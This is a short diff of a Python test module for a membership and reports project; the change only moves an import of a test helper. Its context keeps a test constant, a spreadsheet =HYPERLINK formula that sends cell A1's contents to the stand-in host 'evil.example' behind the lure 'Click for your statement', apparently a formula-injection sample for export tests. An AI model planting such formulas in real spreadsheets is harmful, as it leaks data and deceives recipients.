@@ -21,8 +21,8 @@ from members.models import Category, Person
 from tests.base import CastTestCase
 from tests.members.support import make_listing
 from tests.reports.commissioning_data import END, START, KnownQuarter, frozen
-from tests.reports.support import KnownMonth, at
-from tests.support import user_of
+from tests.reports.support import KnownMonth
+from tests.support import at, user_of
 
 QUARTER = {"start": START.isoformat(), "end": END.isoformat()}
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your statement")'
